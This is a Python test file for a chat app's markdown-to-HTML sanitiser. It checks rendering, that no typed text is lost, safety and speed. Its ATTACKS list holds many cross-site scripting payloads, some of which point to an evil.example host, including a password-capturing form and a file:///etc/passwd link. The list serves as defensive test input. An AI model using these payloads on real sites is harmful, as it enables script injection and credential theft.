"""Text as safe HTML."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat import limits, markdown
from chat.highlighting import CLASSES
from chat.markdown import render, render_inline

TAGS = {"a", "blockquote", "br", "code", "em", "li", "ol", "p", "pre", "s", "span", "strong", "ul"}
ATTRIBUTES = {
    "a": {"dir", "href", "rel", "target"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "span": {"class"},
}
LINK = 'target="_blank" rel="noopener noreferrer nofollow"'


class Reader(HTMLParser):
    """The HTML as another parser reads it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    @property
    def links(self) -> list[str | None]:
        return [attributes.get("href") for tag, attributes in self.tags if tag == "a"]


def text_of(html: str) -> str:
    return Reader(html).text


def letters_of(text: str) -> str:
    return re.sub(r"[\W\d_]", "", text)


def is_safe(html: str) -> bool:
    """Nothing but what is on the list, links only to where links may lead, and the same again after sanitising."""
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), (tag, attributes)
        assert attributes.get("class", "c") in CLASSES
        assert re.match(r"https?://|mailto:", attributes.get("href") or "http://", re.IGNORECASE), attributes
        assert tag != "a" or attributes["rel"] == "noopener noreferrer nofollow"
    assert markdown.clean(html) == html
    return True


class TestSyntax:
    @pytest.mark.parametrize(
        ("body", "html"),
        [
            ("Hello, Bob", "<p>Hello, Bob</p>"),
            ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>"),
            ("some_snake_case", "<p>some_snake_case</p>"),
            ("one\ntwo", "<p>one<br>\ntwo</p>"),
            ("one\r\ntwo", "<p>one<br>\ntwo</p>"),
            ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
            ("two  spaces", "<p>two  spaces</p>"),
            ("> a\n> b", "<blockquote>\n<p>a<br>\nb</p>\n</blockquote>"),
            ("- a\n- b", "<ul>\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ul>"),
            ("3. a", '<ol start="3">\n<li>\n<p>a</p>\n</li>\n</ol>'),
            ("# Title", "<p><strong>Title</strong></p>"),
            ("`` a ` b ``", "<p><code>a ` b</code></p>"),
            (r"\*a\*", "<p>*a*</p>"),
            ("[a](https://example.org)", f'<p><a href="https://example.org" {LINK}>a</a></p>'),
            ("<https://example.org>", f'<p><a href="https://example.org" dir="ltr" {LINK}>https://example.org</a></p>'),
            (
                "mailto:a@example.org",
                f'<p><a href="mailto:a@example.org" dir="ltr" {LINK}>mailto:a@example.org</a></p>',
            ),
            (":tada: :+1: :heart: :nothing:", "<p>🎉 👍 ❤\ufe0f :nothing:</p>"),
        ],
    )
    def test_markdown_becomes_html(self, body: str, html: str) -> None:
        assert render(body) == html

    def test_code_is_coloured_by_class_names(self) -> None:
        assert render("```python\nreturn 1  # one\n```") == (
            '<pre tabindex="0"><code><span class="k">return</span> <span class="m">1</span>  '
            '<span class="c"># one</span>\n</code></pre>'
        )

    @pytest.mark.parametrize("language", ["", "text", "brainfuck"])
    def test_code_of_other_languages_has_no_colours(self, language: str) -> None:
        assert render(f"```{language}\nreturn <1>\n```") == '<pre tabindex="0"><code>return &lt;1&gt;\n</code></pre>'

    def test_long_code_has_no_colours(self) -> None:
        assert "<span" in render("```python\n" + "x = 1\n" * 400 + "```")
        assert "<span" not in render("```python\n" + "x = 1\n" * 600 + "```")

    def test_an_address_ends_where_the_sentence_goes_on(self) -> None:
        html = render("(see https://example.org/a_(b)?c=1&d=2), or http://example.com.")
        assert Reader(html).links == ["https://example.org/a_(b)?c=1&d=2", "http://example.com"]

    def test_a_picture_is_a_link(self) -> None:
        assert render("![a cat](https://example.org/cat.png)") == (
            f'<p><a href="https://example.org/cat.png" {LINK}>a cat</a></p>'
        )
        assert Reader(render("[![a](https://example.org/b)](https://example.org/c)")).links == ["https://example.org/c"]

    def test_emoji_names_in_code_links_and_words_stay_text(self) -> None:
        for body in ("`:tada:`", "```\n:tada:\n```", "https://example.org/:tada:/", r"\:tada:", "a:tada:", "10:100:1"):
            assert text_of(render(body)).strip() == body.strip("`\n").replace("\\", "")

    def test_an_action_has_no_blocks(self) -> None:
        assert render_inline("waves\n> at *all*") == "waves<br>\n&gt; at <em>all</em>"
        assert render_inline("# 1 ```x```") == "# 1 <code>x</code>"
        assert render_inline("waves") == "waves"


class TestLiteralText:
    @pytest.mark.parametrize(
        "body",
        [
            "+", "-", ">", "#", "```", "---", "- - -", "***", "1985. A good year", "Title\n---", "[a]: https://b.example",
            "[^1]", "handlers[0]()", "![a]()", "<b>bold</b>", "&lt; &copy; &#65;", "    four spaces",
            "```some words\nand code", "snake_case_name", "2 * 3 * 4", "a | b\n--|--\n1 | 2", "[a](b)", "ftp://example.org",
            "[a](/accounts/logout/)", "[a](//example.org)", "www.example.org", "alice@example.org", "<!-- comment -->",
        ],
    )  # fmt: skip
    def test_nothing_that_was_typed_gets_lost(self, body: str) -> None:
        letters = re.sub(r"[\s`]", "", body)
        assert re.sub(r"[\s`]", "", text_of(render(body))) == letters
        assert re.sub(r"[\s`]", "", text_of(render_inline(body))) == letters

    def test_a_link_without_words_shows_where_it_leads(self) -> None:
        for body in ("[](https://example.org)", "![](https://example.org)"):
            assert text_of(render(body)) == "https://example.org"

    def test_too_deep_nesting_is_shown_as_text(self) -> None:
        assert render("> " * 8 + "a").count("<blockquote>") == 8
        for body in ("> " * 50 + "a", "- " * 50 + "a", "*a " * 50 + "b* " * 50):
            assert text_of(render(body)) == body


# What has been inserted into pages, by one trick or another.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<b style=\"position:fixed\">a</b>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></div></article><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "<p title=\"</p><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](javascript://example.org/%0aalert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://example.org/1)",
    "[a](https://example.org/\"onmouseover=alert(1)//)",
    "[a](https://example.org \"' onmouseover=alert(1) '\")",
    "[a](https://example.org '\"><script>alert(1)</script>')",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[a](<https://example.org/><script>alert(1)</script>)",
    "![a\"onerror=\"alert(1)](https://example.org/x)",
    "![a](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://example.org/\"onclick=alert(1)>",
    "<https://example.org/'><script>alert(1)</script>",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/'onmouseover='alert(1)",
    "https://evil.example\\@example.org/",
    "mailto:a@b.example?body=<script>",
    "mailto:\"onclick=alert(1)\"@b.example",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script><b onclick='x'>\n```",
    "```\"onclick=alert(1)\na\n```",
    "```python\" onclick=alert(1)\na\n```",
    "1\" onclick=\"alert(1). a",
    ":<script>alert(1)</script>:",
    "*<b*>*",
    "**<a href=\"**\">",
    "[a]: javascript:alert(1)\n\n[a]",
    "\x00<script>",
    "<scr\u0000ipt>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


class TestSafety:
    @pytest.mark.parametrize("body", ATTACKS)
    @pytest.mark.parametrize(
        "around", ["{}", "> {}", "- {}", "# {}", "*{}*", "[{}](https://example.org)", "```html\n{}"]
    )
    def test_an_attack_is_text(self, body: str, around: str) -> None:
        assert is_safe(render(around.format(body)))
        assert is_safe(f"<p>{render_inline(around.format(body))}</p>")

    def test_a_url_with_direction_marks_is_no_link(self) -> None:
        assert Reader(render("https://example.org/gnp.exe")).links
        for mark in "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c":
            for address in (f"https://example.org/{mark}gnp.exe", f"https://example.org/?a={mark}b"):
                assert Reader(render(address)).links == []
                assert Reader(render(f"[words]({address})")).links == []

    @given(st.text())
    def test_any_text_is_safe(self, body: str) -> None:
        assert is_safe(render(body))
        assert is_safe(f"<p>{render_inline(body)}</p>")

    @given(
        st.lists(
            st.sampled_from([*ATTACKS, *"[]()<>*_~`!#>-\\\"'&:@ \n\t", "```", "http://", "](", "mailto:"]), max_size=30
        )
    )
    def test_any_mixture_of_markup_is_safe(self, pieces: list[str]) -> None:
        assert is_safe(render("".join(pieces)))
        assert is_safe(f"<p>{render_inline(''.join(pieces))}</p>")

    # Not the names of languages, which colours are all that is seen of.
    WORDS = st.sampled_from(["tern", "Möwe", "слово", "鳥", "طائر", "terns’", "über", "zwölf"])
    MARKUP = st.sampled_from(
        [*"*_~`<>[]()!#&:@+-=|.\\ ", "\n", "\n\n", "> ", "- ", "1. ", "# ", "```", "\n```\n", "**", "&amp;"]
    )

    @given(st.lists(st.tuples(MARKUP, WORDS, MARKUP), max_size=12))
    def test_words_are_never_lost(self, pieces: list[tuple[str, str, str]]) -> None:
        body = "".join(part for piece in pieces for part in piece)
        for html in (render(body), render_inline(body)):
            assert letters_of(text_of(html)) == letters_of(body)

    @given(st.from_regex(markdown._PLAIN, fullmatch=True))
    def test_a_plain_sentence_is_the_same_without_the_parser(self, body: str) -> None:
        assert render_inline(body) == (markdown._bounded(body, inline=True) or body)
        assert render(body) == (markdown._bounded(body, inline=False) or body)


class TestWorstCase:
    PATTERNS = [
        "[", "]", "[](", "![", "[[]]", "[a](b", "[a](<b", "[a](http://b \"", "[a](http://b)", "![a](http://b) ", "*",
        "**", "_", "*_", "a*", "*a ", "*a* ", "a**b", "*a _b ", "[*a", "*[", "~~", "~~a~~ ", "`", "`a", "``a`", "\\",
        "\\[", "<", "<a", "<http://a>", "<a@b.c>", "<!--", "<![CDATA[", "&#", "&amp;", "http://", "http://a ", "http://a(",
        "mailto:a@b.c ", ":tada:", ":tada: ", "::", ">", "> ", ">a\n", "> - ", "- > a\n", "- ", "- a\n", "-  a\n\n",
        "-\n", "1. ", "1. a\n", "#", "# a\n", "a\n", "a\n\n", "\n", "\t", " ", "x", "x ", "\u202e", "🎉", "\"", "```\n",
        "```\na\n```\n", "```py\n1\n```\n", "```java\n\n\n\n```\n", "~~~\n",
    ]  # fmt: skip

    @pytest.mark.parametrize(
        "body",
        [pattern * (10_000 // len(pattern)) for pattern in PATTERNS]
        + [
            "[" * 5000 + "]" * 5000,
            "*" * 5000 + "a" + "*" * 4999,
            "".join("`" * length + "a" for length in range(1, 140)),
            "".join("  " * depth + "- a\n" for depth in range(95)),
            "".join(">" * depth + "a\n" for depth in range(139)),
            *(f"```{language}\na::b" + "\n" * 2900 for language in ("python", "java", "c", "cs", "js")),
            *(f"```{language}\n" + "a\n" * 1450 for language in ("python", "java", "c", "cs", "js")),
            "```python\n" + "x = f(1, 'a')  # b\n" * 500,
        ],
        ids=lambda body: repr(body[:16]),
    )
    def test_ten_thousand_characters_take_no_longer_than_a_few_hundred_ordinary_messages(self, body: str) -> None:
        """In one run, since a second is not the same everywhere: an ordinary message takes some 0.1 ms here."""
        assert len(body) <= limits.body_length()
        render(body)  # loads what it needs
        allowed = 500 * min(seconds(ORDINARY) for _ in range(20))
        assert min(seconds(body) for _ in range(3)) < allowed
        html = render(body)
        assert len(html) <= markdown.MOST_HTML
        assert is_safe(html)


ORDINARY = "I *think* so: see `counter.py`, or https://example.org/log. **Do not** touch it before `rc.2` is out :tada:"


def seconds(body: str) -> float:
    began = time.thread_time()
    render(body)
    return time.thread_time() - began
